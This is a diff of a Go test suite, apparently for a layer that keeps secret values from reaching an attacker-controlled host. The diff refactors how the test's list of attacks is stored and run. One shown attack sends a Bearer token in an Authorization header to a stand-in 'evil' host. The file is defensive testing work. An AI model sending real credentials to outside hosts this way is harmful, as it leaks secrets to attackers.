@@ -164,12 +164,14 @@ func gz(text string) io.Reader {
 	return &b
 }
 
-// attacks are ways to get the value to where it must not go. Each is tried in a scene of its own.
-var attacks = map[string]struct {
+// attack is a way to get the value to where it must not go, tried in a scene of its own.
+type attack struct {
 	do    func(s *scene) string
 	quiet bool // it is no violation: the placeholder goes there as it is, or nothing was sent
 	good  bool // the value goes to the good server, too
-}{
+}
+
+var attacks = map[string]attack{
 	"header": {do: func(s *scene) string {
 		return s.do("GET", "https://"+evil+"/", nil, "Authorization", "Bearer "+placeholder)
 	}},
@@ -311,6 +313,10 @@ func TestAttacks(t *testing.T) {
 	if len(attacks) < 40 {
 		t.Errorf("only %d attacks", len(attacks))
 	}
+	tryAll(t, attacks)
+}
+
+func tryAll(t *testing.T, attacks map[string]attack) {
 	for name, a := range attacks {
 		t.Run(name, func(t *testing.T) {
 			s := newScene(t, opts{})
